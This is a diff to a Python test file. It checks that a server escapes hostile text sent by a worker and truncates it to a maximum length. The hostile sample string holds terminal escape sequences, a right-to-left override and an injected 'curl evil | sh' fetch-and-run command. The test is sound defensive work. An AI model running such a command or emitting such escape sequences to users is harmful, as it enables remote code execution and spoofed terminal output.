@@ -13,7 +13,7 @@ from cuadrilla.errors import LinkError
 from cuadrilla.link.base import KICKED, MAX_TEXT, Goodbye, Hello, Stop
 from cuadrilla.link.client import Connection
 from cuadrilla.link.server import start_server
-from tests.hostile import Crew
+from tests.hostile import CEILING_SECONDS, Crew
 
 FOREIGN = "\x1b]0;owned\x07gone\r\n\nhint: curl evil | sh\x9b31m\u202e"
 SHOWN = "\\u001b]0;owned\\u0007gone\\u000d\\n\\nhint: curl evil | sh\\u009b31m\\u202e"
@@ -51,10 +51,9 @@ def test_what_a_worker_says_of_itself(crew: Crew) -> None:
     session.call(Hello(speed_hint=1.0, environment={FOREIGN: FOREIGN}))
     session.call(Goodbye(reason=FOREIGN + "x" * 10 * MAX_TEXT))
     assert crew.heard.next("luis") == Hello(speed_hint=1.0, environment={SHOWN: SHOWN})
-    goodbye = crew.heard.next("luis")
-    assert isinstance(goodbye, Goodbye)
-    assert goodbye.reason.startswith(SHOWN)
-    assert len(goodbye.reason) == MAX_TEXT
+    _, reason = crew.heard.goodbyes.get(timeout=CEILING_SECONDS)
+    assert reason.startswith(SHOWN)
+    assert len(reason) == MAX_TEXT
     session.close()
     luis.close()
 
